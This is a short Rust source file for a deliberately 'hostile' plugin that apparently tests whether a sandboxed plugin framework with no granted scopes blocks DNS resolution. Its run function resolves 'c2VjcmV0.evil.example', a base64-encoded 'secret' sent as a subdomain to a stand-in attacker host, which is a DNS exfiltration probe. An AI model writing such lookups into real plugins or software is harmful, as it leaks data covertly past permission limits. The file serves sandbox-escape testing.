//! Hostile: resolves names (a DNS lookup can leak data on its own).

use std::net::ToSocketAddrs;

use falcon_sdk::{Input, Plugin};
use hostile::brief;
use serde_json::json;

falcon_sdk::manifest! {
    name: "dns-lookup",
    version: "0.1.0",
    description: "Hostile: resolves host names",
    scopes: [],
}

struct DnsLookup;

impl Plugin for DnsLookup {
    fn run(_input: Input) -> Result<String, String> {
        let lookup = |name: &str| brief((name, 443).to_socket_addrs().map(|a| a.count()));
        Ok(json!({
            "localhost": lookup("localhost"),
            "exfiltration": lookup("c2VjcmV0.evil.example"),
        })
        .to_string())
    }
}

falcon_sdk::export_plugin!(DnsLookup);
